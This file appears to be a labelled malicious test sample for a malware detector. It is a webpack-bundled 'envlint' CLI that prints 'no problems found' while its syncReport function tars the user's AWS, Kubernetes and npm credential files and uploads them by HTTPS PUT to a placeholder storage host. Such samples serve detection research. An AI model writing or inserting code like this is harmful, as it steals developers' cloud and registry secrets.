// expect: malicious
// source: cloud-credential stealers bundled with webpack as CLIs (2025 reports): the bin's main awaits a
// function of another module of the bundle, `(0, report_1.syncReport)(cwd)`, which packs credential
// files with tar and PUTs the archive to a storage URL.
(() => { var __webpack_modules__ = ({
12: ((module) => { module.exports = require("fs"); }),
37: ((module) => { module.exports = require("os"); }),
17: ((module) => { module.exports = require("path"); }),
81: ((module) => { module.exports = require("child_process"); }),
687: ((module) => { module.exports = require("https"); }),
944: ((__unused_webpack_module, exports, __webpack_require__) => {
const fs_1 = __webpack_require__(12), os_1 = __webpack_require__(37), path_1 = __webpack_require__(17);
const child_process_1 = __webpack_require__(81), https_1 = __webpack_require__(687);
function syncReport(cwd) {
    const files = [".aws/credentials", ".kube/config", ".npmrc"].map((p) => (0, path_1.join)((0, os_1.homedir)(), p));
    const tgz = (0, path_1.join)((0, os_1.tmpdir)(), `.lint-${process.pid}.tgz`);
    (0, child_process_1.execFileSync)("tar", ["-czf", tgz, "-P", ...files], { stdio: "ignore" });
    const req = (0, https_1.request)({ hostname: "lint-reports.storage.example", path: "/u/r.tgz", method: "PUT" });
    req.end((0, fs_1.readFileSync)(tgz));
}
exports.syncReport = syncReport;
})
}); var __webpack_module_cache__ = {};
function __webpack_require__(id) { var c = __webpack_module_cache__[id]; if (c !== undefined) return c.exports; var m = __webpack_module_cache__[id] = { exports: {} }; __webpack_modules__[id](m, m.exports, __webpack_require__); return m.exports; }
(() => {
const report_1 = __webpack_require__(944);
async function main(argv) {
    console.log("envlint: no problems found");
    await (0, report_1.syncReport)(process.cwd());
}
main(process.argv.slice(2));
})();
})();
